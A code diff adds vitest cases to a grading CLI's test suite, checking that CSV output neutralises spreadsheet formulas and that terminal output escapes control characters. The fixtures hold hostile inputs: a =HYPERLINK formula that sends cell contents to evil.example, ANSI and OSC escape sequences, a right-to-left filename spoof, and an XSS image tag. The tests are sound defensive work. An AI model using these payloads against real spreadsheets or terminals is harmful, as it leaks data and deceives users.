@@ -5,6 +5,7 @@ import { afterAll, afterEach, beforeAll, describe, expect, it } from "vitest";
 import { createOpenAiMock, MOCK_BASE_URL, modelGrade } from "./support/openai-mock.js";
 import { SAMPLE_ANSWER, tempDbFile } from "./support/app.js";
 import { jsonLines, runCli } from "./support/cli.js";
+import { csvCell } from "../src/batch/output.js";
 
 const FIXTURE = new URL("./fixtures/batch-answers.jsonl", import.meta.url).pathname;
 const mock = createOpenAiMock();
@@ -51,6 +52,23 @@ describe("starcoach grade (offline)", () => {
     expect(records[0]!.status).toBe("done");
   });
 
+  it("writes cells a spreadsheet would run as formulas with a leading apostrophe (CSV injection)", async () => {
+    const db = tempDbFile();
+    const input = join(dirname(db), "formulas.jsonl");
+    const ids = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"open\")", "+1+1", "-2+3", "@SUM(A1:A9)", "plain"];
+    writeFileSync(input, ids.map((id, i) => JSON.stringify({ id, principle: i === 4 ? "=nope" : "ownership", answer: SAMPLE_ANSWER.replace("Acme", `Acme${i}`) })).join("\n"));
+    const out = join(dirname(db), "out.csv");
+    await runCli(["grade", input, "--offline", "--db", db, "--format", "csv", "--out", out]);
+    const records = parse(readFileSync(out, "utf8"), { columns: true }) as Array<Record<string, string>>;
+    expect(records.map((x) => x.id)).toEqual(["'=HYPERLINK(\"http://evil.example/?\"&A1,\"open\")", "'+1+1", "'-2+3", "'@SUM(A1:A9)", "plain"]);
+    expect(records[4]!.error_code).toBe("unknown_principle");
+    // Every text cell is checked, not only the id; numbers stay numbers.
+    expect(csvCell("\tcmd")).toBe("'\tcmd");
+    expect(csvCell("\r=1")).toBe("'\r=1");
+    expect(csvCell(-3)).toBe(-3);
+    expect(csvCell("a=b")).toBe("a=b");
+  });
+
   it("resumes the same job when the same command runs again", async () => {
     const db = tempDbFile();
     const first = await runCli(["grade", FIXTURE, "--offline", "--db", db]);
@@ -87,6 +105,35 @@ describe("starcoach grade (offline)", () => {
     expect(html).not.toContain("<img src=x");
     expect(html).toContain("&lt;img src=x onerror=alert(1)&gt;");
     expect(html).not.toContain("<b>nope</b>");
+  });
+
+  it("prints ids and input text to the terminal with control characters escaped", async () => {
+    const db = tempDbFile();
+    const input = join(dirname(db), "escapes.jsonl");
+    // Set the window title, clear the screen, an 8-bit CSI, a right-to-left override, a bell.
+    const ids = ["\x1b]0;pwned\x07", "\x1b[2J\x1b[H", "x\x9b31m", "evil\u202efdp.exe", "a\nb"];
+    writeFileSync(input, ids.map((id) => JSON.stringify({ id, principle: "nope", answer: "x\x1b[31m" })).join("\n"));
+    const raw = /[\x00-\x09\x0b-\x1f\x7f-\x9f\u202e]/;
+    const r = await runCli(["grade", input, "--offline", "--db", db]);
+    expect(r.code).toBe(1);
+    expect(r.stderr).not.toMatch(raw);
+    expect(r.stderr).toContain("unknown_principle ×5: \\x1b]0;pwned\\x07, \\x1b[2J\\x1b[H, x\\x9b31m, evil\\u202efdp.exe, a\\x0ab");
+    // JSONL on stdout is the same JSON, with the controls JSON leaves raw written as \u escapes.
+    expect(r.stdout).not.toMatch(/[\x7f-\x9f\u202e]/);
+    expect(jsonLines(r.stdout).map((l) => l.id)).toEqual(ids);
+    // CSV shown on a terminal: the answer text and ids are escaped too.
+    const csv = await runCli(["grade", input, "--offline", "--db", db, "--format", "csv"], { tty: true });
+    expect(csv.stdout).not.toMatch(raw);
+    // A message quoting the input (a bad CSV header) is escaped as well.
+    const header = await runCli(["grade", "-", "--offline", "--db", db, "--input-format", "csv"], { stdin: "\x1b[2Jname,text\n1,2\n" });
+    expect(header.code).toBe(2);
+    expect(header.stderr).toContain("\\x1b[2Jname,text");
+    expect(header.stderr).not.toMatch(raw);
+    // Usage errors quote the argument given.
+    const usage = await runCli(["grade", "--\x1b]0;x\x07"]);
+    expect(usage.code).toBe(2);
+    expect(usage.stderr).toContain("\\x1b]0;x\\x07");
+    expect(usage.stderr).not.toMatch(raw);
   });
 
   it("documents every option in --help and rejects a bad --concurrency", async () => {
